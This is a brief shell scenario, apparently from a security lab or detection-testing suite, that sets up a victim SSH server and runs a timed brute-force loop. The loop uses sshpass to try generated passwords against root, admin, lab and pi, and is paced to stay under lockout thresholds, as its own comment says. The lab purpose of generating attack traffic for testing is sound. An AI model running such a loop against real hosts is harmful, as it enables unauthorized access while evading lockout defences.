# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-ssh
# needs: sshpass ssh sshd
# seconds: 180
# One password every few seconds: below what a lockout notices.
. $lab/victims.sh

servers() {
	victim_ssh d 22
}

scenario() {
	_gap=$(choose 5 8 10)
	setting options "every $_gap s"
	# shellcheck disable=SC2016
	attack v d tcp 22 -- sh -c 'end=$(($(date +%s) + 150))
		while [ "$(date +%s)" -lt "$end" ]; do
			timeout 8 sshpass -p "guess$(date +%N)" ssh -o StrictHostKeyChecking=no \
				-o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 \
				"$(shuf -n1 -e root admin lab pi)@$1" true
			sleep "$2"
		done' sh "$(addr d)" "$_gap"
}
